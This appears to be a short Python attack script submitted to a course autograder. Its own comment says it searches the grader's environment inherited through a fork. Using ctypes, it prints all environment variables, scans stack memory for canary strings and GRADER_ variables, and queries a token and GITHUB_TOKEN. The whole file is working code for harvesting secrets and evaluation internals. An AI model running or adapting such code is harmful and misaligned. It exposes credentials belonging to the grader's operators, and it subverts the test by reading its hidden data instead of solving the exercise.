"""Looks for the grader's environment in its own memory, where a fork leaves it."""
# attack: week=03 exercise=pyramid
import ctypes
import re

libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
place = 0
while environ[place]:
    print(environ[place])
    place += 1
block = ctypes.cast(environ[0], ctypes.c_void_p).value
# The kernel keeps arguments and environment at the top of the stack.
start = block & ~0xFFF
print(re.findall(rb"@CANARY_START@[0-9a-f]+|GRADER_\w+=\S*", ctypes.string_at(start, 4096)))
libc.getenv.restype = ctypes.c_char_p
print(libc.getenv(b"@TOKEN@"), libc.getenv(b"GITHUB_TOKEN"))
